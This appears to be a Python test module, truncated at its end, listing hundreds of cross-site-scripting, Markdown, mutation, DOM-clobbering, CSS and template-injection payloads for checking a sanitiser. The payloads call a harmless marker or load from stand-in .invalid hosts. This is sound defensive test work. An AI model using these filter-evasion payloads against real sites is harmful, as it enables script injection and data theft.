"""Named tables of what a stranger may write into a feed or a saved page to make a browser run it.

Every payload calls `tripped()`, which the test's browser listens for, or asks the network for a
host that ends in `.invalid`. They follow the classes of the OWASP cheat sheets on cross-site
scripting, filter evasion and DOM clobbering, and what the sanitisers of HTML had to learn about
mutation since.
"""

from __future__ import annotations

from itertools import product

Table = dict[str, str]

SCRIPTS: Table = {
    "a script": "<script>tripped()</script>",
    "a script in capitals": "<SCRIPT>tripped()</SCRIPT>",
    "a script in mixed case": "<ScRiPt>tripped()</sCrIpT>",
    "a script with an attribute": '<script type="text/javascript">tripped()</script>',
    "a script with a slash for a space": "<script/x>tripped()</script>",
    "a script with a tab in its tag": "<script\t>tripped()</script\t>",
    "a script with a form feed in its tag": "<script\x0c>tripped()</script\x0c>",
    "a script that is never closed": "<script>tripped()//",
    "a script after a lone less-than sign": "<<script>tripped()//<</script>",
    "a script inside the name of a script": "<scr<script>ipt>tripped()</scr</script>ipt>",
    "a module": '<script type="module">tripped()</script>',
    "a script from a data URL": '<script src="data:text/javascript,tripped()"></script>',
    "a script from another host": '<script src="https://script.invalid/x.js"></script>',
    "a script from a host without a scheme": '<script src="//script.invalid/x.js"></script>',
    "a script from a host without quotes": "<script src=//script.invalid/x.js></script>",
    "a script with a language": '<script language="vbscript">tripped()</script>',
    "a script behind a quote": "'><script>tripped()</script>",
    "a script behind a double quote": '"><script>tripped()</script>',
    "a script behind a grave accent": "`><script>tripped()</script>",
    "a script behind the end of a title": "</title><script>tripped()</script>",
    "a script behind the end of a textarea": "</textarea><script>tripped()</script>",
    "a script behind the end of a style": "</style><script>tripped()</script>",
    "a script behind the end of a script": "</script><script>tripped()</script>",
    "a script behind the end of a comment": "--><script>tripped()</script>",
    "a script behind the end of a noscript": "</noscript><script>tripped()</script>",
    "a script behind the end of a cdata section": "]]><script>tripped()</script>",
    "a script behind the end of a quotation": "</blockquote></div><script>tripped()</script>",
    "a script behind the end of the page": "</body></html><script>tripped()</script>",
    "a script behind the end of a template": "</template><script>tripped()</script>",
    "a script behind an svg's title": "</title></svg><script>tripped()</script>",
}

# What loads, shows, fails or begins by itself, without anybody touching it.
SELF_STARTING: Table = {
    "an image that fails": "<img src=x: onerror=tripped()>",
    "an image that fails, in quotes": '<img src="x:" onerror="tripped()">',
    "an image that loads": (
        "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' onload=tripped()>"
    ),
    "an image with slashes for spaces": "<img/src=x:/onerror=tripped()>",
    "an image in another name": "<image src=x: onerror=tripped()>",
    "an image with a line break in its tag": "<img src=x:\nonerror=tripped()>",
    "an image with an entity in its handler": '<img src=x: onerror="&#116;ripped()">',
    "an image with a hexadecimal entity": '<img src=x: onerror="&#x74ripped()">',
    "an image with an escape in its handler": "<img src=x: onerror=\\u0074ripped()>",
    "an image with grave accents": "<img src=x: onerror=tripped``>",
    "an image that is never closed": "<img src=x: onerror=tripped() ",
    "an image behind an odd quote": '<img """><img src=x: onerror="tripped()">',
    "an image with a candidate": "<img srcset=x: onerror=tripped()>",
    "a picture": "<picture><source srcset=x:><img src=x: onerror=tripped()></picture>",
    "a vector image": "<svg onload=tripped()>",
    "a vector image with a slash": "<svg/onload=tripped()>",
    "a vector image with a script": "<svg><script>tripped()</script></svg>",
    "a vector image with an encoded script": "<svg><script>&#116;ripped()</script></svg>",
    "a vector image with a linked script": (
        "<svg><script href='data:text/javascript,tripped()'></script></svg>"
    ),
    "an animation that begins": "<svg><animate onbegin=tripped() attributeName=x dur=1s>",
    "a setting that begins": "<svg><set onbegin=tripped() attributeName=x to=1 dur=1s></svg>",
    "an animation that ends": "<svg><animate onend=tripped() attributeName=x dur=.001s>",
    "an animated link": (
        "<svg><a><animate attributeName=href values=javascript:tripped() /><text y=9>x</text></a>"
    ),
    "a vector image that fails": "<svg><image href=x: onerror=tripped()></svg>",
    "foreign content": "<svg><foreignObject><img src=x: onerror=tripped()></foreignObject></svg>",
    "a body that loads": "<body onload=tripped()>",
    "a body that is shown": "<body onpageshow=tripped()>",
    "a body that hears of a fragment": "<body onhashchange=tripped()>",
    "a field that takes the focus": "<input autofocus onfocus=tripped()>",
    "a list that takes the focus": "<select autofocus onfocus=tripped()></select>",
    "an area that takes the focus": "<textarea autofocus onfocus=tripped()></textarea>",
    "a button that takes the focus": "<button autofocus onfocus=tripped()>x</button>",
    "anything that takes the focus": "<b tabindex=0 autofocus onfocus=tripped()>x</b>",
    "a made-up element that takes the focus": "<x-y autofocus tabindex=1 onfocusin=tripped()>",
    "a field whose image fails": "<input type=image src=x: onerror=tripped()>",
    "details that open": "<details open ontoggle=tripped()><summary>x</summary></details>",
    "a film that fails": "<video><source onerror=tripped()></video>",
    "a film that fails at once": "<video src=x: onerror=tripped()></video>",
    "a film that begins": "<video src=x: onloadstart=tripped()></video>",
    "a sound that fails": "<audio src=x: onerror=tripped()></audio>",
    "a sound with a source": "<audio><source src=x: onerror=tripped()></audio>",
    "a frame": "<iframe src='javascript:parent.tripped()'></iframe>",
    "a frame that loads": "<iframe onload=tripped()></iframe>",
    "a frame with its own document": "<iframe srcdoc='<script>parent.tripped()</script>'></iframe>",
    "a frame with an encoded document": (
        "<iframe srcdoc='&lt;script&gt;parent.tripped()&lt;/script&gt;'></iframe>"
    ),
    "a frame from a data URL": "<iframe src='data:text/html,<script>tripped()</script>'></iframe>",
    "a frame from another host": "<iframe src=https://frame.invalid/></iframe>",
    "a set of frames": "<frameset onload=tripped()><frame src=x:></frameset>",
    "an object": "<object data='javascript:parent.tripped()'></object>",
    "an object that fails": "<object data=x: onerror=tripped()></object>",
    "an object from a data URL": (
        "<object data='data:text/html,<script>tripped()</script>'></object>"
    ),
    "an embedding": "<embed src='javascript:parent.tripped()'>",
    "an embedding that loads": (
        "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"/>' "
        "onload=tripped()>"
    ),
    "a moving text": "<marquee onstart=tripped()>x</marquee>",
    "a style that loads": "<style onload=tripped()></style>",
    "a style sheet that fails": "<link rel=stylesheet href=x: onerror=tripped()>",
    "a style sheet that loads": "<link rel=stylesheet href=data:text/css, onload=tripped()>",
    "a meta refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:tripped()'>",
    "a meta refresh to another host": (
        "<meta http-equiv=refresh content='0;url=https://refresh.invalid/'>"
    ),
    "an element that is animated": (
        "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationstart=tripped()>x</b>"
    ),
    "an element that is animated by ours": (
        "<b style='animation-name:turn;animation-duration:1ms' onanimationend=tripped()>x</b>"
    ),
    "an element in transition": "<b style='transition:1ms' ontransitionend=tripped()>x</b>",
    "hidden content that is found": "<b hidden=until-found onbeforematch=tripped()>x</b>",
    "an isindex": "<isindex type=image src=x: onerror=tripped()>",
    "a background": "<table background='javascript:tripped()'><tr><td>x</table>",
    "a background of another host": "<table background=https://back.invalid/><tr><td>x</table>",
    "a mathematical link": "<math><a xlink:href='javascript:tripped()'>x</a></math>",
    "a portal": "<portal src='javascript:tripped()' onload=tripped()></portal>",
    "a template that becomes a shadow": (
        "<div><template shadowrootmode=open><img src=x: onerror=tripped()></template></div>"
    ),
    "a processing instruction": "<?xml-stylesheet href='javascript:tripped()'?>",
    "a declaration": "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://entity.invalid/'>]>&y;",
    "a conditional comment": "<!--[if gte IE 4]><script>tripped()</script><![endif]-->",
    "a comment that ends early": "<!--><script>tripped()</script>-->",
    "a comment that ends with a dash": "<!---><script>tripped()</script>-->",
    "a comment that ends with a bang": "<!-- --!><script>tripped()</script>-->",
    "a bogus comment": "</ <script>tripped()</script>",
    "a percent comment": "<% <script>tripped()</script> %>",
}

_TOUCHES = (
    "click", "dblclick", "mouseover", "mouseenter", "mousemove", "mousedown", "pointerover",
    "pointerdown", "focus", "blur", "keydown", "input", "change", "copy", "paste", "wheel",
    "contextmenu", "dragstart", "touchstart", "toggle", "scroll", "auxclick", "beforeinput",
)  # fmt: skip

# The same in the hands of a reader. The test's browser touches everything there is.
TOUCHED: Table = {
    **{f"a link that waits for {event}": f"<a href=# on{event}=tripped()>x</a>"
       for event in _TOUCHES},
    **{
        f"a {tag} that waits to be touched": f"<{tag} onclick=tripped()>x</{tag}>"
        for tag in "p div b h2 li td blockquote pre code table dl figure bdo ruby details "
                   "x-y svg math button form".split()
    },
    "a button that opens a popover": (
        "<button popovertarget=p>x</button><b popover id=p onbeforetoggle=tripped()>x</b>"
    ),
    "a form": "<form action='javascript:tripped()'><button>x</button></form>",
    "a form on a button": "<form><button formaction='javascript:tripped()'>x</button></form>",
    "a form on a button elsewhere": (
        "<form id=f></form><button form=f formaction='javascript:tripped()'>x</button>"
    ),
    "a form to another host": "<form action=https://form.invalid/><input name=x></form>",
    "a handler in capitals": "<p ONCLICK=tripped()>x</p>",
    "a handler behind a slash": "<p/onclick=tripped()>x</p>",
    "a handler behind a null": "<p\x00onclick=tripped()>x</p>",
    "a handler with a null in it": "<p on\x00click=tripped()>x</p>",
    "a handler behind a vertical tab": "<p\x0bonclick=tripped()>x</p>",
    "a handler of a name that does not exist": "<p onx=1 onclick=tripped()>x</p>",
}  # fmt: skip

_QUOTES = {"a double quote": '"', "a quote": "'", "a grave accent": "`", "nothing": "x"}
_HANDLERS = {
    "the pointer": "onmouseover=tripped()",
    "the focus": "autofocus tabindex=0 onfocus=tripped()",
    "a click": "onclick=tripped()",
    "an animation": "style=animation:x onanimationstart=tripped()",
}

# Out of an attribute that holds the text.
ATTRIBUTES: Table = {
    **{
        f"out of {of} for {to}": f"{quote} {handler} {quote}"
        for (of, quote), (to, handler) in product(_QUOTES.items(), _HANDLERS.items())
    },
    "out of a double quote as an entity": "&quot; onmouseover=tripped() x=&quot;",
    "out of a double quote by its number": "&#34; onmouseover=tripped() x=&#34;",
    "out of a double quote without a semicolon": "&#34 onmouseover=tripped() x=&#34",
    "out of a quote by its number": "&#39; onmouseover=tripped() x=&#39;",
    "out of a quote by its hexadecimal number": "&#x27; onmouseover=tripped() x=&#x27;",
    "out of a quote by its name": "&apos; onmouseover=tripped() x=&apos;",
    "out of a double quote, encoded twice": "&amp;quot; onmouseover=tripped() x=&amp;quot;",
    "out of a double quote in percent-encoding": "%22%20onmouseover=tripped()%20x=%22",
    "out of a full-width double quote": "\uff02 onmouseover=tripped() x=\uff02",
    "out of a curly quote": "\u201d onmouseover=tripped() x=\u201c",
    "out of a modifier letter": "\u02ba onmouseover=tripped() x=\u02ba",
    "out of a quote behind a backslash": '\\" onmouseover=tripped() x=\\"',
    "out of a tag": "> <img src=x: onerror=tripped()> <",
    "out of a tag behind a slash": "/> <img src=x: onerror=tripped()> <",
    "out of a tag by entities": "&gt;&lt;img src=x: onerror=tripped()&gt;",
    "out of a tag by entities, encoded twice": "&amp;gt;&amp;lt;img src=x: onerror=tripped()&amp;gt;",
    "out of an attribute by a line break": '"\nonmouseover=tripped()\nx="',
    "out of an attribute by a separator": '"\u2028onmouseover=tripped()\u2028x="',
}

_SCRIPT_URLS = {
    "plain": "javascript:tripped()",
    "in capitals": "JAVASCRIPT:tripped()",
    "in mixed case": "jAvAsCrIpT:tripped()",
    "after a space": " javascript:tripped()",
    "after a control": "\x01javascript:tripped()",
    "after a no-break space": "\u00a0javascript:tripped()",
    "after a line break": "\njavascript:tripped()",
    "after a byte order mark": "\ufeffjavascript:tripped()",
    "with a tab": "java\tscript:tripped()",
    "with a line break": "java\nscript:tripped()",
    "with a carriage return": "java\rscript:tripped()",
    "with a null": "java\x00script:tripped()",
    "with a tab as an entity": "java&#9;script:tripped()",
    "with a tab by its name": "java&Tab;script:tripped()",
    "with a line break by its name": "java&NewLine;script:tripped()",
    "with its colon by its name": "javascript&colon;tripped()",
    "with its colon by its number": "javascript&#58;tripped()",
    "with its first letter by its number": "&#106;avascript:tripped()",
    "with its first letter by a long number": "&#0000106avascript:tripped()",
    "with its first letter in percent-encoding": "%6Aavascript:tripped()",
    "with a soft hyphen": "java\u00adscript:tripped()",
    "with a line separator": "java\u2028script:tripped()",
    "in full-width letters": "\uff4a\uff41\uff56\uff41script:tripped()",
    "with a long s": "java\u017fcript:tripped()",
    "with a comment that looks like an address": "javascript://example.org/%0Atripped()",
    "with a comment that ends": "javascript:/*https://example.org/*/tripped()",
    "with a query that looks like an address": "javascript:tripped('https://example.org/')",
    "with a void": "javascript:void(tripped())",
    "in another scripting language": "vbscript:tripped()",
    "in a living one": "livescript:tripped()",
    "as a source view": "view-source:javascript:tripped()",
    "as a feed": "feed:javascript:tripped()",
    "as a page in an archive": "jar:javascript:tripped()!/",
    "as data": "data:text/html,<script>parent.tripped()</script>",
    "as data in base64": "data:text/html;base64,PHNjcmlwdD50cmlwcGVkKCk8L3NjcmlwdD4=",
    "as data in capitals": "DATA:text/html,<script>tripped()</script>",
    "as data with a character set": "data:text/html;charset=utf-7,+ADw-script+AD4-tripped()",
    "as a vector image": "data:image/svg+xml,<svg onload=tripped() xmlns='http://www.w3.org/2000/svg'/>",
    "as an XHTML page": "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>tripped()</script>",
    "as a blob": "blob:https://example.org/tripped()",
    "as a file": "file:///etc/hostname",
    "as a file of a server": "file://host.invalid/share",
    "as a path to a server": "\\\\host.invalid\\share",
    "without a scheme": "//host.invalid/tripped()",
    "with three slashes": "///host.invalid/tripped()",
    "with backslashes": "\\/\\/host.invalid/tripped()",
    "with a quote in its path": 'https://example.org/"onmouseover="tripped()',
    "with a tag in its path": "https://example.org/<img src=x: onerror=tripped()>",
    "with a tag in its fragment": "https://example.org/#<img src=x: onerror=tripped()>",
    "with a script for its user": "https://javascript:tripped()@example.org/",
    "with a script for its host": "https://<script>tripped()</script>/",
    "with a script for its port": "https://example.org:<script>tripped()</script>/",
    "with a bracket in its host": "https://[<script>tripped()</script>]/",
    "of one slash": "https:/example.org/<script>tripped()</script>",
    "of no slash": "https:javascript:tripped()",
    "about a page of the browser": "about:blank#<script>tripped()</script>",
    "to a setting of the browser": "chrome://settings/",
    "to another program": "intent://x#Intent;scheme=javascript;end",
    "to a telephone": "tel:tripped()",
    "to a mailbox": "mailto:x@example.org?subject=<script>tripped()</script>",
}  # fmt: skip

# As a URL by itself, in a link, in an image, in Markdown.
URLS: Table = {
    **{f"a URL {name}": url for name, url in _SCRIPT_URLS.items()},
    **{f"a link {name}": f'<a href="{url.replace(chr(34), "&quot;")}">x</a>'
       for name, url in list(_SCRIPT_URLS.items())[:42]},
}  # fmt: skip

MARKDOWN: Table = {
    "a link": "[x](javascript:tripped())",
    "a link in capitals": "[x](JaVaScRiPt:tripped())",
    "a link in angle brackets": "[x](<javascript:tripped()>)",
    "a link with a tab": "[x](java\tscript:tripped())",
    "a link with an entity": "[x](javascript&colon;tripped&lpar;&rpar;)",
    "a link with an escape": "[x](javascript\\:tripped\\(\\))",
    "a link in percent-encoding": "[x](javascript%3Atripped())",
    "a link to data": "[x](data:text/html,<script>tripped()</script>)",
    "a link with a title": '[x](https://example.org/ "\\" onmouseover=tripped() x=\\"")',
    "a link with a title in quotes": "[x](https://example.org/ '\" onmouseover=\"tripped()')",
    "a link with a tag for its text": "[<img src=x: onerror=tripped()>](https://example.org/)",
    "a link with a quote in its address": '[x](https://example.org/"onmouseover="tripped())',
    "a link by reference": "[x]\n\n[x]: javascript:tripped()",
    "a link by reference with a title": '[x]\n\n[x]: https://example.org/ "\\"onclick=tripped() x=\\""',
    "an address": "<javascript:tripped()>",
    "an address with a tag": "<https://example.org/<img src=x: onerror=tripped()>>",
    "an image": "![x](javascript:tripped())",
    "an image of another host": "![x](https://image.invalid/x.png)",
    "an image with a handler for its text": '![" onerror="tripped()](https://image.invalid/x.png)',
    "an image with a tag for its text": "![<script>tripped()</script>](https://image.invalid/x.png)",
    "an image with a handler for its title": "![x](https://image.invalid/x.png '\" onerror=\"tripped()')",
    "an image in a link": "[![x](x: 'onerror=tripped()')](javascript:tripped())",
    "a heading with a tag": "# <img src=x: onerror=tripped()>",
    "a heading with a handler": "# x {onclick=tripped()}",
    "a quotation with a tag": "> <script>tripped()</script>",
    "an item with a tag": "- <script>tripped()</script>\n- x",
    "a fence with a handler": '``` " onmouseover=tripped() x="\nx\n```',
    "a fence with a tag for its language": "```<script>tripped()</script>\nx\n```",
    "a fence that holds its own end": "```\n</code></pre><script>tripped()</script>\n```",
    "a code span": "`</code><script>tripped()</script>`",
    "a table": "| x | <img src=x: onerror=tripped()> |\n| --- | --- |\n| a | <b onclick=tripped()>b |",
    "an attribute list": "x\n{: onclick=tripped() }",
    "an attribute list on a word": "*x*{: onclick=tripped() style=color:red }",
    "an attribute list on a link": "[x](https://example.org/){: href=javascript:tripped() }",
    "an attribute list on a heading": "# x {: onmouseover=tripped() }",
    "a footnote": "x[^1]\n\n[^1]: <img src=x: onerror=tripped()>",
    "a footnote with a tag for its name": 'x[^"><img src=x: onerror=tripped()>]\n\n[^"><img src=x: onerror=tripped()>]: y',
    "an abbreviation": "*[x]: <script>tripped()</script>\n\nx",
    "raw markup": "<div>\n\n<script>tripped()</script>\n\n</div>",
    "raw markup that Markdown splits": "<b *x onclick=tripped()*>x</b>",
    "a comment that Markdown splits": "<!-- *\n\n--><img src=x: onerror=tripped()>*",
    "emphasis inside a tag": '<a href="**x" onclick="tripped()**">x</a>',
    "a cut tag": 'x <a href="https://example.org/" onclick="tripped()',
    "a cut link": "x [x](javascript:tripped(",
}  # fmt: skip

MUTATION: Table = {
    "a style in a vector image": '<svg><style><img title="</style><img src=x: onerror=tripped()>">',
    "a style in mathematics": '<math><style><img title="</style><img src=x: onerror=tripped()>">',
    "a title in a vector image": "<svg></p><title><a id='</title><img src=x: onerror=tripped()>'>",
    "a glyph in mathematics": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x: onerror=tripped()&gt;'>"
    ),
    "a glyph with an annotation": (
        "<math><annotation-xml encoding=text/html><p><mglyph><style></math>"
        "<img src=x: onerror=tripped()></style>"
    ),
    "an action in mathematics": (
        "<math><maction actiontype=statusline xlink:href='javascript:tripped()'>x</maction></math>"
    ),
    "a form inside a form": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src=x: onerror=tripped()></style></mglyph></form>"
    ),
    "a description in a vector image": "<svg><desc><table><td><svg><style><b title='</style></svg><img src=x: onerror=tripped()>'>",
    "an image in an annotation of HTML": (
        "<math><semantics><mi>x</mi><annotation-xml encoding='text/html'>"
        "<img src=x: onerror=tripped()></annotation-xml></semantics></math>"
    ),
    "an image in a formula's text": "<math><mtext><img src=x: onerror=tripped()></mtext></math>",
    "a link on a part of a formula": (
        "<math href='javascript:tripped()'><mi href='javascript:tripped()'>x</mi></math>"
    ),
    "a mark that closes a formula": (
        "<math><mi><malignmark><style><mi title='</style><img src=x: onerror=tripped()>'></math>"
    ),
    "a table between formulas": (
        "<math><mtext><table><mglyph><style><math><img src=x: onerror=tripped()></style></math>"
    ),
    "a formula in a heading in a form": (
        "<form><h1><math><mtext></form><form><mglyph><style></math><img src=x: onerror=tripped()>"
    ),
    "foreign content in mathematics": "<math><foreignObject><style></foreignObject><img src=x: onerror=tripped()></style>",
    "a noscript": "<noscript><p title='</noscript><img src=x: onerror=tripped()>'></noscript>",
    "a noembed": "<noembed><p title='</noembed><img src=x: onerror=tripped()>'></noembed>",
    "a noframes": "<noframes><p title='</noframes><img src=x: onerror=tripped()>'></noframes>",
    "a frame's fallback": "<iframe><p title='</iframe><img src=x: onerror=tripped()>'></iframe>",
    "an example": "<xmp><p title='</xmp><img src=x: onerror=tripped()>'></xmp>",
    "a plain text": "<plaintext><img src=x: onerror=tripped()>",
    "a listing": "<listing>\n<img src=x: onerror=tripped()></listing>",
    "a textarea": "<textarea><p title='</textarea><img src=x: onerror=tripped()>'></textarea>",
    "a title": "<title><p title='</title><img src=x: onerror=tripped()>'></title>",
    "a template": "<template><p title='</template><img src=x: onerror=tripped()>'></template>",
    "a script as text": "<script type=text/plain><p title='</script><img src=x: onerror=tripped()>'></script>",
    "a list of choices": "<select><p title='</select><img src=x: onerror=tripped()>'></select>",
    "an option": "<select><option><style></option></select><img src=x: onerror=tripped()></style>",
    "a new list of choices": "<select><button><selectedcontent></button><option><img src=x: onerror=tripped()>",
    "a table that hands out its content": "<table><svg><tr><style><img src='</style><img src=x: onerror=tripped()>'>",
    "a caption": "<table><caption><svg><style></caption></table><img src=x: onerror=tripped()></style>",
    "a column": "<table><colgroup><img src=x: onerror=tripped()></table>",
    "a cdata section in a vector image": "<svg><![CDATA[</svg><img src=x: onerror=tripped()>]]>",
    "a cdata section that ends late": "<svg><![CDATA[<p title=']]><img src=x: onerror=tripped()>'>]]></svg>",
    "a cdata section in HTML": "<![CDATA[<img src=x: onerror=tripped()>]]>",
    "a comment in a style": "<style><!--</style><img src=x: onerror=tripped()>--></style>",
    "a comment in a script": "<script><!--<script></script><img src=x: onerror=tripped()></script>",
    "a quotation with a grave accent": "<p title='``onmouseover=tripped()'>x</p>",
    "an attribute without an end": "<p title='><img src=x: onerror=tripped()>",
    "an attribute that looks like a tag": '<p title="<img src=x: onerror=tripped()>">x</p>',
    "an attribute of escaped markup": "<p title='&lt;/p&gt;&lt;img src=x: onerror=tripped()&gt;'>x</p>",
    "escaped markup": "&lt;img src=x: onerror=tripped()&gt;",
    "markup escaped twice": "&amp;lt;img src=x: onerror=tripped()&amp;gt;",
    "markup by numbers": "&#60;img src=x: onerror=tripped()&#62;",
    "markup by hexadecimal numbers": "&#x3c;img src=x: onerror=tripped()&#x3E;",
    "markup by numbers without semicolons": "&#60img src=x: onerror=tripped()&#62",
    "markup by names in capitals": "&LT;img src=x: onerror=tripped()&GT;",
    "markup in entities of entities": "&#38;#60;img src=x: onerror=tripped()&#38;#62;",
    "a namespace of its own": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>tripped()</x:script>",
    "a prefix": "<svg:script xmlns:svg='http://www.w3.org/2000/svg'>tripped()</svg:script>",
    "a tag with a null": "<scr\x00ipt>tripped()</scr\x00ipt>",
    "a tag with a control": "<img\x01src=x:\x02onerror=tripped()>",
    "a tag in full-width signs": "\uff1cscript\uff1etripped()\uff1c/script\uff1e",
    "a tag in signs that look alike": "\u2039script\u203atripped()\u2039/script\u203a",
    "a tag that a normal form makes": "\u226e\u0338script\u226f\u0338tripped()",
    "a letter that grows when folded": "<\u017fcript>tripped()</\u017fcript>",
    "a letter that shrinks when folded": "<\u212amg src=x: onerror=tripped()>",
    "a dotless letter": "<\u0131mg src=x: onerror=tripped()>",
    "a tag in another encoding": "+ADw-script+AD4-tripped()+ADw-/script+AD4-",
    "a tag in an escaped encoding": "\x1b$B<script>tripped()</script>\x1b(B",
    "a half of a character before a quote": "\u00e0\u00a4\" onmouseover=tripped() x=\"",
    "a deep nesting": "<div>" * 60 + "<img src=x: onerror=tripped()>" + "</div>" * 60,
    "many formattings": "<b><i><u>" * 12 + "<p><img src=x: onerror=tripped()>",
}  # fmt: skip

# Names that our own pages and scripts use, or that every document has.
CLOBBERING: Table = {
    **{
        f"an id like {name}": f'<a id="{name}" href="https://example.org/">x</a>'
        for name in ("main", "search", "copy", "summary", "opinion", "accounts", "undated", "y2024")
    },
    **{
        f"a name like {name}": f'<img name="{name}" src="https://image.invalid/">'
        for name in ("body", "cookie", "getElementById", "currentScript", "documentElement")
    },
    "a form with our attributes": '<form id=attributes><input name=attributes><input name="dataset"></form>',
    "two with one id": "<a id=theme></a><a id=theme name=x href='javascript:tripped()'>x</a>",
    "a base": "<base href=https://base.invalid/>",
    "a base that is a script": "<base href='javascript:/a/-tripped()//'>",
    "a target": "<base target=x><a href=https://example.org/ target=_top>x</a>",
    "a class of ours": '<p class="entry large skip" data-id="x" hidden>x</p>',
    "a button of ours": '<button class="theme" onclick=tripped()>x</button>',
    "a part of a shadow": '<slot name="x" onslotchange=tripped()>x</slot>',
    "a custom element": '<x-y is="x-z" part="p" slot="s">x</x-y>',
    "a role": '<p role="alert" aria-live="assertive" aria-hidden="false">x</p>',
    "something that can be edited": "<p contenteditable oninput=tripped()>x</p>",
    "a map over the page": '<map name=m><area shape=default href="javascript:tripped()"></map><img usemap=#m src=x:>',
    "a prototype": "__proto__",
    "a constructor": "constructor",
    "a method of every object": "toString",
    "a getter": '{"__proto__": {"innerHTML": "<img src=x: onerror=tripped()>"}}',
}  # fmt: skip

STYLES: Table = {
    "an attribute": '<p style="background:url(javascript:tripped())">x</p>',
    "an attribute that covers the page": '<a style="position:fixed;inset:0" href="https://example.org/">x</a>',
    "an attribute that loads": '<p style="background:url(https://style.invalid/x)">x</p>',
    "an expression": '<p style="width:expression(tripped())">x</p>',
    "a binding": '<p style="-moz-binding:url(https://style.invalid/x#y)">x</p>',
    "an import": "<style>@import 'https://style.invalid/x';</style>",
    "an import in capitals": "<STYLE>@IMPORT'//style.invalid/x';</STYLE>",
    "a selector that tells": "<style>a[href]{background:url(https://style.invalid/x)}</style>",
    "a font": "<style>@font-face{font-family:x;src:url(https://style.invalid/x)}*{font-family:x}</style>",
    "the end of a rule": "}*{background:url(https://style.invalid/x)",
    "the end of a string": "\";}*{background:url(https://style.invalid/x)}",
    "a comment": "/*</style><script>tripped()</script>*/",
    "a colour that is an attribute": '<font color="red" size="99" onclick=tripped()>x</font>',
    "the body's colour": '<body bgcolor=red text=red background="https://style.invalid/x">',
}  # fmt: skip

# Into JSON, into a script that holds JSON, into XML, into a template.
DATA: Table = {
    "the end of a script in a string": '"</script><script>tripped()</script>',
    "the end of a script in capitals": "</SCRIPT ><img src=x: onerror=tripped()>",
    "the start of a comment and a script": "<!--<script>tripped()",
    "a line separator": "x\u2028tripped()//",
    "a paragraph separator": "x\u2029tripped()//",
    "the end of a double-quoted string": '";tripped()//',
    "the end of a quoted string": "';tripped()//",
    "the end of a template literal": "`;tripped()//",
    "a template literal": "${tripped()}",
    "a backslash before the end": '\\";tripped()//',
    "a backslash at the end": "x\\",
    "the end of an object": '"}];tripped();[{"x":"',
    "the end of a call": '");tripped();("',
    "the end of a comment": "*/tripped()/*",
    "a new line": '"\n;tripped()\n"',
    "an escape": "\\u003cscript\\u003etripped()\\u003c/script\\u003e",
    "a hexadecimal escape": "\\x3cscript\\x3etripped()\\x3c/script\\x3e",
    "the end of a cdata section": "]]>]]&gt;<script>tripped()</script><![CDATA[",
    "an entity": "&x;&lt;script&gt;tripped()&lt;/script&gt;",
    "an instruction": "<?php tripped() ?><?x y?>",
    "an element of XML with a namespace": "<script xmlns='http://www.w3.org/1999/xhtml'>tripped()</script>",
    "an element of XML that links": "<x xmlns:l='http://www.w3.org/1999/xlink' l:href='javascript:tripped()'/>",
    "an expression of a template": "{{ ''.__class__.__mro__ }}",
    "a sum of a template": "{{ 7 * 7 }}<script>tripped()</script>",
    "a statement of a template": "{% for x in (1, 2) %}<script>tripped()</script>{% endfor %}",
    "a comment of a template": "{# #}<script>tripped()</script>{# #}",
    "a value of a template that is safe": "{{ '<script>tripped()</script>'|safe }}",
    "a raw part of a template": "{% endraw %}{% raw %}<script>tripped()</script>",
    "a place in a format": "{source} {0} {reason.__class__}<script>tripped()</script>",
    "a place in an old format": "%s %(x)s %n<script>tripped()</script>",
    "an expression in a page": "{{constructor.constructor('tripped()')()}}",
    "an expression in an attribute": "[[tripped()]] (onclick)=tripped() @click=tripped() v-on:click=tripped()",
    "a formula": "=HYPERLINK(\"javascript:tripped()\")",
    "a marker of ours": "<!-- octavo --><script>tripped()</script>",
    "text that runs the other way": "\u202e<script>tripped()</script>\u202c",
    "text that hides": "\u200b<\u200bscript>tripped()</script>",
    "tags of no width": "<scr\u200dipt>tripped()</script>",
    "a lone surrogate as an entity": "&#xD800;<script>tripped()</script>",
    "a character that does not exist": "&#x110000;&#xFFFF;<script>tripped()</script>",
    "a null as an entity": "&#0;<script>tripped()</script>",
    "a number that overflows": "&#99999999999999;<script>tripped()</script>",
    "a name of an entity cut short": "&lt<script>tripped()</script>",
}  # fmt: skip

# What strip() or a browser takes away before a URL, and what neither does.
_UNSEEN = {
    "a no-break space": 0xA0, "a line separator": 0x2028, "a paragraph separator": 0x2029,
    "an ideographic space": 0x3000, "a next line": 0x85, "an ogham space": 0x1680,
    "a thin space": 0x2009, "a space of no width": 0x200B, "a byte order mark": 0xFEFF,
    "a soft hyphen": 0xAD, "a unit separator": 0x1F, "a start of heading": 0x01, "a tab": 0x09,
    "a form feed": 0x0C, "a file separator": 0x1C, "a mark of direction": 0x202E,
}  # fmt: skip
_WRITTEN = {
    "as it is": "{0:c}",
    "as an entity": "&#{0};",
    "as an entity written twice": "&amp;#{0};",
    "as an entity written three times": "&amp;amp;#{0};",
}
_SCHEMES = {
    "a script": "javascript:tripped()",
    "another script": "vbscript:tripped()",
    "data": "data:text/html,<script>parent.tripped()</script>",
    "a colon by its name": "javascript&colon;tripped()",
    "a colon by its name, twice": "javascript&amp;colon;tripped()",
}
_HIDDEN_URLS = {
    f"{name} behind {unseen} {way}": form.format(code) + url
    for (unseen, code), (way, form), (name, url) in product(
        _UNSEEN.items(), _WRITTEN.items(), _SCHEMES.items()
    )
}

# Whole elements, so that one copy can hold many of them.
LINKS: Table = {
    **{
        f"{name} in {place}": form.format(url.replace('"', "&quot;"))
        for (name, url), (place, form) in product(
            (_HIDDEN_URLS | _SCRIPT_URLS).items(),
            {
                "a link": '<a href="{0}">x</a>',
                "an image": '<img src="{0}" alt="x">',
            }.items(),
        )
    },
    **{
        f"{name} in {place}": form.format(url.replace('"', "&quot;"))
        for (name, url), (place, form) in product(
            _SCRIPT_URLS.items(),
            {
                "candidates": '<img srcset="{0} 2x, {0} 1x" src="{0}">',
                "a quotation": '<blockquote cite="{0}"><q cite="{0}" title="{0}">x</q></blockquote>',
